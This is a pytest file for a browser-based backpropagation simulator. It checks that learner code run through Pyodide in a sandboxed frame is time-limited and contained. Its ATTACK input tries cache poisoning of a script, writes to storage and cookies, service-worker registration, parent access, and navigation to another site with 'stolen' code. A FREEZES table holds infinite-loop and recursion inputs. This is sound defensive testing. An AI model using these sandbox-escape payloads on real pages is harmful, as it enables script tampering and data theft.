"""A learner's code in a box it cannot leave (issue 25, items 2-4): on CPython, the budget per
Run and the bypasses the budget itself now sees; in the page, the attacks of the issue run in
the Edit page's sandboxed frame and are contained, a frozen frame is replaced, and saved code
is never lost to a link."""

from __future__ import annotations

import time

from backprop_sim import editing
from test_security import SIGMOID_PRIME_BODY, SOURCE, run

SLOW = "    started = time.perf_counter()\n    while time.perf_counter() - started < 0.25:\n        pass\n"
SLOW_RULE = "import time\n" + SOURCE.replace(SIGMOID_PRIME_BODY, SLOW + SIGMOID_PRIME_BODY)


def test_a_run_of_many_slow_calls_is_stopped_by_the_budget_per_run():
    started = time.monotonic()
    result = run(SLOW_RULE)  # 0.25 s a call: under the budget per call, over it per Run
    took = time.monotonic() - started
    assert took < editing.RUN_BUDGET_S + 1.5, took
    assert not result["ok"] and "over this Run's calls" in result["error"]["message"]


def test_a_loop_in_exec_is_stopped_too():
    started = time.monotonic()
    result = run(SOURCE + "\nexec('while True: pass')\n")
    assert time.monotonic() - started < editing.BUDGET_S + 1.5
    assert not result["ok"] and "was stopped" in result["error"]["message"]


def test_a_patched_clock_does_not_stop_the_budget():
    patched = SOURCE.replace(SIGMOID_PRIME_BODY, "    while True:\n        pass")
    started = time.monotonic()
    try:
        result = run("import time\ntime.monotonic = lambda: 0\n" + patched)
    finally:
        time.monotonic = editing._clock  # the patch reached this interpreter's time module
    assert time.monotonic() - started < 2 * editing.BUDGET_S + 1.5
    assert not result["ok"] and "was stopped" in result["error"]["message"]


# ---------------------------------------------------------------- in the page

import pytest  # noqa: E402

from conftest import Server, wait_for  # noqa: E402
from test_security import BROKEN_SIGMOID, _edit_page, _result, _run  # noqa: E402

KEY, ASIDE, PENDING = "backprop-microsim:rules.py", "backprop-microsim:rules.py:set-aside", "backprop-microsim:rules-running"


def _sim_frame(page):
    return page.frame_locator("#sim").locator("html")


@pytest.mark.browser
def test_a_link_to_original_sets_the_saved_code_aside_and_restore_brings_it_back(visit, server):
    v, page = _edit_page(visit, server.url("sim/edit.html"))
    assert _result(page) == "ok"
    assert page.locator("#restore-code").is_hidden()
    page.evaluate("(code) => localStorage.setItem('%s', code)" % KEY, BROKEN_SIGMOID)
    page.goto("about:blank")
    page.goto(server.url("sim/edit.html#original"))  # a plain link, from anywhere
    assert _result(page) == "ok"
    assert page.evaluate("localStorage.getItem('%s')" % KEY) is None  # none of it ran
    assert "(1.0 - a)" in page.locator(".cm-content").inner_text()
    page.click("#restore-code")
    assert _result(page) == "restored"
    assert "(1.0 + a)" in page.locator(".cm-content").inner_text()  # back in the editor, not run
    assert page.evaluate("localStorage.getItem('%s')" % KEY) == BROKEN_SIGMOID
    assert page.locator("#restore-code").is_hidden()
    assert _sim_frame(page).evaluate("() => window.backpropSim.state().rules.original")  # still the original
    assert _run(page, BROKEN_SIGMOID) == "mismatch"
    # Reset to original keeps it one step back too
    page.click("#reset-code")
    assert _result(page) == "ok"
    assert page.evaluate("localStorage.getItem('%s')" % ASIDE) == BROKEN_SIGMOID
    assert v.errors == []


ATTACK = SOURCE + r'''
import js
from pyodide.ffi import create_once_callable
report = []
def tried(name, fn):
    try:
        fn()
        report.append(name + ": allowed")
    except Exception as exc:
        report.append(name + ": " + type(exc).__name__)
def plant():
    url = js.URL.new("../assets/katex/katex.min.js", js.location.href).href
    js.caches.open("planted").then(create_once_callable(lambda c: c.put(url, js.Response.new("window.PLANTED = 1"))))
tried("caches", plant)
tried("storage", lambda: js.localStorage.setItem("pwned", "yes"))
tried("cookie", lambda: setattr(js.document, "cookie", "pwned=yes"))
tried("worker", lambda: js.navigator.serviceWorker.register("../sw.js"))
tried("top", lambda: setattr(js.window.top.location, "href", "%(other)s/?code=stolen"))
tried("parent", lambda: js.window.parent.document.body)
js.window.attackReport = "; ".join(report)
js.setTimeout(create_once_callable(lambda: setattr(js.location, "href", "%(other)s/?code=stolen-by-the-frame")), 2500)
'''


@pytest.mark.browser
def test_the_issues_attacks_run_in_a_box_and_reach_nothing(visit, server, tmp_path):
    (tmp_path / "index.html").write_text("other site")
    other = Server(tmp_path)
    try:
        v, page = _edit_page(visit, server.url("sim/edit.html"))
        assert _result(page) == "ok"
        frame = next(f for f in page.frames if f.parent_frame is not None)
        assert frame.evaluate("window.origin") == "null"  # an opaque origin
        outcome = _run(page, ATTACK % {"other": other.origin})
        report = frame.evaluate("window.attackReport")
        assert report, (outcome, page.locator("#result").inner_text())
        print("attack report:", report)
        for reach in ("caches", "storage", "cookie", "worker", "top", "parent"):
            assert f"{reach}: allowed" not in report or reach == "top", report
        page.wait_for_timeout(4000)  # the frame's own navigation (at 2.5 s), and any planted cache entry
        assert page.url == server.url("sim/edit.html")  # the top was not navigated
        assert not [u for u in v.requests if u.startswith(other.origin)], v.requests  # nothing reached the other site
        assert page.evaluate("caches.keys()").count("planted") == 0
        assert page.evaluate("localStorage.getItem('pwned')") is None and "pwned" not in page.evaluate("document.cookie")
        katex = page.evaluate("fetch('../assets/katex/katex.min.js').then((r) => r.text())")
        assert "PLANTED" not in katex and len(katex) > 10000
    finally:
        other.close()


@pytest.mark.browser
@pytest.mark.parametrize("patch", ["np.exp = lambda z: z * 0 + 2.0", "import builtins\nbuiltins.isinstance = lambda *a: False"])
def test_use_the_original_gives_a_fresh_interpreter(visit, server, patch):
    from backprop_sim.controller import Controller

    ctl = Controller()  # this process's own, unpatched: the loss after the first forward pass
    while ctl.state()["loss"] is None:
        ctl.act("forward")
    expected = ctl.state()["loss"]
    assert round(expected, 4) == 0.0837  # as the issue saw it
    v, page = _edit_page(visit, server.url("sim/edit.html"))
    assert _result(page) == "ok"
    page.evaluate("(code) => window.backpropEditor.setValue(code)", SOURCE + "\n" + patch + "\n")
    page.click("#run")
    outcome = _result(page)
    assert outcome in ("ok", "mismatch", "error", "froze")
    if outcome == "froze":  # the patch broke the frame's own Python: the watchdog gave a new one
        assert _result(page) == "not-run"
    page.click("#reset-code")
    wait_for(page, "document.documentElement.dataset.editResult === 'ok'", timeout=90_000)
    sim = _sim_frame(page)
    loss = sim.evaluate("""() => { const api = window.backpropSim; api.act('reset');
        while (api.state().loss === null) api.act('forward'); return api.state().loss; }""")
    assert abs(loss - expected) < 1e-12
    assert "every check passes" in page.locator("#result-text").inner_text()


LATER = "import js\nfrom pyodide.ffi import create_once_callable\n"
FREEZES = {
    "a spin scheduled for later": SOURCE + "\n" + LATER + "def spin():\n    while True:\n        pass\njs.setTimeout(create_once_callable(spin), 1500)\n",
    "exec of a loop": SOURCE + "\nexec('while True: pass')\n",
    "the trace switched off": SOURCE + "\nimport sys\nsys.settrace(None)\nwhile True:\n    pass\n",
    "a patched clock": SOURCE + "\nimport time\ntime.monotonic = lambda: 0\nwhile True:\n    pass\n",
    "deep recursion": SOURCE + "\nimport sys\nsys.setrecursionlimit(10**6)\ndef down(n):\n    return down(n + 1)\ndown(0)\n",
}


@pytest.mark.browser
@pytest.mark.parametrize("how", list(FREEZES))
def test_no_freeze_outlives_a_visit(visit, server, how):
    """Each way past the budget ends, within seconds, either stopped by the budget (an error with
    its line) or caught by the watchdog (the frame replaced, the learner told); and the next visit
    never runs the code by itself unless it finished."""
    v, page = _edit_page(visit, server.url("sim/edit.html"))
    assert _result(page) == "ok"
    page.evaluate("(code) => window.backpropEditor.setValue(code)", FREEZES[how])
    started = time.monotonic()
    page.click("#run")
    first = _result(page)
    if first == "ok":  # the code ran and froze the page afterwards
        first = _result(page)
    assert first in ("error", "froze"), first
    assert time.monotonic() - started < 20
    words = page.locator("#result").inner_text()
    if first == "froze":
        assert "froze the simulation" in words, words
        assert _result(page) == "not-run"  # the new frame runs the original, and asks
        assert page.locator("#recover").is_visible()
        assert _sim_frame(page).evaluate("() => window.backpropSim.act('forward').phase") == "forward"
        page.goto("about:blank")
        page.goto(server.url("sim/edit.html"))
        assert _result(page) == "not-run"  # the next visit asks too
        assert "did not finish" in page.locator("#result-text").inner_text()
    else:
        assert "stopped" in words or "Error" in words, words
        assert _sim_frame(page).evaluate("() => window.backpropSim.act('forward').phase") == "forward"
    assert page.evaluate("localStorage.getItem('%s')" % KEY) == FREEZES[how]  # the code is never lost
